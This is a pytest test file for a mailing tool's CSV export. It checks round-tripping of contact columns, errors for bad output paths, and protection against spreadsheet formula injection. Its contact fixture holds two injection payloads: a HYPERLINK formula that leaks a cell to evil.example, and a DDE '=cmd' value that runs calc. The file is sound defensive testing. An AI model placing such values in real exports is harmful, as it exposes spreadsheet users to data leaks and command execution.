"""`mailer export` (issue 12, "Records that can be used again"): the CSV keeps every contact
column, so re-sending from it keeps each person's language and lists; a bad -o path is one
line and exit 1; no cell is run as a formula by a spreadsheet, yet `contacts:` reads the
values back unchanged."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from conftest import write_campaign

from mailer.cli import cli
from mailer.contacts import Contact, load_contacts
from mailer.csvcells import protect, unprotect
from mailer.ledger import Ledger
from mailer.store import Decided
from mailer.vocab import Status
from mailer.workspace import load_workspace

EVENTS = """\
- {id: ev, title: Launch, start: 2030-01-22 09:30, end: 2030-01-22 16:30, location: "Hall 1"}
"""
STEPS = """\
- {id: invite, event: ev, template: invite, at: 2030-01-04 10:00}
"""
# A bilingual list as organisers keep it: languages, lists, tags, extra columns, and values a
# spreadsheet would run as formulas (=, +, -, @ first), some of them legitimate (a phone number,
# a dash for "none", an @handle), and a value that itself starts with a quote and = (''=quoted
# is how `contacts:` spells the value '=quoted).
CONTACTS = (
    "email,name,language,lists,tags,organisation,phone,note\n"
    "jan@example.be,Jan Peeters,nl,indieners;lerend-netwerk,vip,Stad Gent,+32 9 123 45 67,-\n"
    'celine@example.be,Céline Mertens,fr,indieners,,"=HYPERLINK(""http://evil.example/?""&A1,""x"")",'
    "+32 2 555 00 00,@celine\n"
    "marc@example.be,=cmd|' /C calc'!A0,fr_BE,lerend-netwerk,press;vip,\"Org, with comma\",,''=quoted\n"
    "sofie@example.be,Sofie,,,,-Org-,\t+1,@\n"
)
NOW = datetime(2030, 1, 4, 9, tzinfo=UTC)
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _campaign(tmp_path: Path) -> Path:
    cfg = write_campaign(tmp_path, events=EVENTS, steps=STEPS, contacts=CONTACTS)
    with Ledger.create(tmp_path / "ledger.db") as led:
        led.record_decided(
            "test",
            [
                Decided("invite", "ev", c.email, c.name, NOW, Status.FAILED, "refused")
                for c in load_contacts([tmp_path / "contacts" / "list.csv"]).contacts
            ]
            # someone mailed earlier whose row has since left the contact file
            + [Decided("invite", "ev", "gone@example.org", "-Gone", NOW, Status.FAILED, "@refused")],
            NOW,
        )
    return cfg


def _export(*args: str) -> Result:
    return CliRunner().invoke(cli, ["export", *args])


def _cells(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))


def _same(a: Contact, b: Contact) -> dict[str, tuple[object, object]]:
    """What re-sending depends on, for comparison: b may have more columns (the delivery ones)."""
    return {
        "email": (a.email, b.email),
        "name": (a.name, b.name),
        "language": (a.language, b.language),
        "lists": (a.lists, b.lists),
        "tags": (a.tags, b.tags),
        "fields": (dict(a.fields), {k: b.fields.get(k) for k in a.fields}),
    }


def test_export_keeps_every_contact_column_through_a_round_trip(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    cfg = _campaign(tmp_path)
    monkeypatch.chdir(tmp_path)
    result = _export("--config", str(cfg), "-o", "failed.csv")
    assert result.exit_code == 0, result.output
    assert "Wrote 5 row(s)" in result.stdout
    # the contact that left the file: one line on stderr, its delivery columns still written
    assert result.stderr.count("\n") == 1 and "1 row(s)" in result.stderr, result.stderr
    rows = _cells(tmp_path / "failed.csv")
    header = rows[0]
    assert header[:8] == ["email", "name", "step", "status", "smtp_code", "smtp_text", "reason", "updated"]
    assert header[8:] == ["language", "lists", "tags", "organisation", "phone", "note"]
    gone = next(r for r in rows if r[0] == "gone@example.org")
    assert gone[2:4] == ["invite", "failed"] and gone[8:] == [""] * 6

    # Re-send from it: the export is the contacts: of a new campaign.
    again = tmp_path / "again"
    again.mkdir()
    cfg2 = write_campaign(again, events=EVENTS, steps=STEPS, contacts=(tmp_path / "failed.csv").read_text())
    before = {c.email: c for c in load_workspace(cfg).contacts}
    after = {c.email: c for c in load_workspace(cfg2).contacts}
    assert set(after) == set(before) | {"gone@example.org"}
    for email, contact in before.items():
        for what, (old, new) in _same(contact, after[email]).items():
            assert new == old, (email, what)
    assert after["celine@example.be"].language == "fr" and after["marc@example.be"].language == "fr_BE"
    assert after["gone@example.org"].name == "-Gone"


def test_no_cell_starts_like_a_formula(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    cfg = _campaign(tmp_path)
    monkeypatch.chdir(tmp_path)
    assert _export("--config", str(cfg), "-o", "failed.csv").exit_code == 0
    rows = _cells(tmp_path / "failed.csv")
    risky = [cell for row in rows for cell in row if cell.startswith(DANGEROUS)]
    assert risky == []
    by_email = {r[0]: dict(zip(rows[0], r, strict=True)) for r in rows[1:]}
    assert by_email["celine@example.be"]["organisation"].startswith("'=HYPERLINK(")
    assert by_email["jan@example.be"]["phone"] == "'+32 9 123 45 67"
    assert by_email["marc@example.be"]["name"] == "'=cmd|' /C calc'!A0"
    assert by_email["marc@example.be"]["note"] == "''=quoted"  # a quote of its own is kept
    assert by_email["gone@example.org"]["reason"] == "'@refused"


@pytest.mark.parametrize(
    "value",
    ["=1+1", "+32 2 555 00 00", "-", "@", "\tx", "\rx", "'=x", "''+x", "'", "O'Brien", "'plain", "", "a=b"],
)
def test_protect_then_unprotect_is_the_value(value: str) -> None:
    assert unprotect(protect(value)) == value
    assert not protect(value).startswith(DANGEROUS)


def test_export_without_a_valid_campaign_writes_the_delivery_columns(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    cfg = _campaign(tmp_path)
    cfg.write_text(cfg.read_text(encoding="utf-8").replace("events:", "events: [", 1), encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    result = _export("--config", str(cfg), "--db", "ledger.db", "-o", "failed.csv")
    assert result.exit_code == 0, result.output
    assert result.stderr.count("\n") == 1, result.stderr
    assert "5 row(s)" in result.stderr and "mailer check" in result.stderr
    rows = _cells(tmp_path / "failed.csv")
    assert rows[0] == ["email", "name", "step", "status", "smtp_code", "smtp_text", "reason", "updated"]
    assert len(rows) == 6


def _path_cases(tmp_path: Path) -> dict[str, str]:
    (tmp_path / "folder").mkdir()
    (tmp_path / "loop1").symlink_to(tmp_path / "loop2")
    (tmp_path / "loop2").symlink_to(tmp_path / "loop1")
    return {
        "/missing/dir/x.csv": "/missing/dir",
        "folder": "folder",
        "folder/": "folder",
        "": "-o",
        "schedules.yaml/x.csv": "schedules.yaml",
        "x" * 300 + ".csv": "too long",
        "loop1": "loop1",
        "loop1/x.csv": "loop1",
    }


def test_every_bad_output_path_is_one_line_and_exit_1(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    cfg = _campaign(tmp_path)
    monkeypatch.chdir(tmp_path)
    before = sorted(p.name for p in tmp_path.iterdir())
    for target, named in _path_cases(tmp_path).items():
        for force in ((), ("--force",)):
            result = _export("--config", str(cfg), "-o", target, *force)
            shown = target[:40]
            assert result.exit_code == 1, (shown, result.output, result.exception)
            assert not isinstance(result.exception, Exception) or isinstance(result.exception, SystemExit)
            assert result.stdout == "", shown
            lines = result.stderr.splitlines()
            assert len(lines) == 1 and lines[0].startswith("error: -o"), (shown, result.stderr)
            assert named in lines[0], (shown, lines[0])
            assert "the file exists" not in lines[0], (shown, lines[0])
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted([*before, "folder", "loop1", "loop2"])


@pytest.mark.slow
def test_a_folder_as_output_in_a_process(tmp_path: Path) -> None:
    """As a user runs it: no usage screen (exit 2), no traceback."""
    cfg = _campaign(tmp_path)
    (tmp_path / "out").mkdir()
    proc = subprocess.run(
        [sys.executable, "-m", "mailer", "export", "--config", str(cfg), "-o", "out"],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=60,
        env={**os.environ, "COLUMNS": "200"},
    )
    assert proc.returncode == 1 and proc.stdout == "", proc.stderr
    assert proc.stderr.count("\n") == 1 and "out" in proc.stderr and "folder" in proc.stderr, proc.stderr
